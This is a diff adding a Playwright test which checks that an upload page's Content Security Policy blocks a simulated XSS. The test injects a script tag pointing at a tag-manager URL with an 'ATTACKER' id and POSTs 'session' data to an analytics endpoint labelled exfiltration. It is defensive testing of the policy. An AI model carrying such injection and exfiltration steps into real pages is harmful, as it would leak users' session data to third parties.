@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs';
+import { uploadPagePath } from '../src/data/pages';
 import { site } from '../src/data/site';
 import { instagramOrigin } from '../src/lib/security-policy';
 import { answerGtag, consentBanner } from './consent-helpers';
@@ -83,5 +84,65 @@ test.describe('no policy violation with the islands in use', () => {
       .click();
     await page.getByRole('button', { name: it('embed.mapLoad') }).click();
     await expect(page.locator(`iframe[src="${mapEmbedAddress}"]`)).toBeAttached();
+  });
+});
+
+test.describe('the upload page’s policy', () => {
+  // What an XSS on the page would try: load a tag manager of its own, send data elsewhere.
+  const injectedScript = 'https://www.googletagmanager.com/gtm.js?id=GTM-ATTACKER';
+  const exfiltration = 'https://www.google-analytics.com/g/collect?v=2';
+
+  test('an injected third-party script and a fetch to a non-Supabase origin are blocked', async ({
+    page,
+  }) => {
+    // Answered if ever requested, so a request the policy let through would succeed.
+    const reached: string[] = [];
+    for (const url of [injectedScript, exfiltration]) {
+      await page.route(`${new URL(url).origin}/**`, (route) => {
+        reached.push(route.request().url());
+        return route.fulfill({
+          contentType: 'text/javascript',
+          body: 'window.attackerRan = true;',
+        });
+      });
+    }
+    await page.addInitScript(() => {
+      const violations: string[] = [];
+      Object.assign(window, { cspViolations: violations });
+      document.addEventListener('securitypolicyviolation', (event) =>
+        violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
+      );
+    });
+    await page.goto(uploadPagePath);
+
+    const outcome = await page.evaluate(
+      async ([scriptUrl, fetchUrl]) => {
+        const script = document.createElement('script');
+        script.src = scriptUrl;
+        const loaded = new Promise<string>((resolve) => {
+          script.onload = () => resolve('ran');
+          script.onerror = () => resolve('blocked');
+        });
+        document.head.append(script);
+        const sent = await fetch(fetchUrl, { method: 'POST', body: 'session' }).then(
+          () => 'sent',
+          () => 'blocked',
+        );
+        return { script: await loaded, sent, attackerRan: 'attackerRan' in window };
+      },
+      [injectedScript, exfiltration] as const,
+    );
+    expect(outcome).toEqual({ script: 'blocked', sent: 'blocked', attackerRan: false });
+    // The fetch breaks both policies (the header's and the <meta>'s): one report each.
+    await expect
+      .poll(async () => [
+        ...new Set(
+          await page.evaluate(
+            () => (window as unknown as { cspViolations: string[] }).cspViolations,
+          ),
+        ),
+      ])
+      .toEqual([`script-src-elem ${injectedScript}`, `connect-src ${exfiltration}`]);
+    expect(reached).toEqual([]);
   });
 });
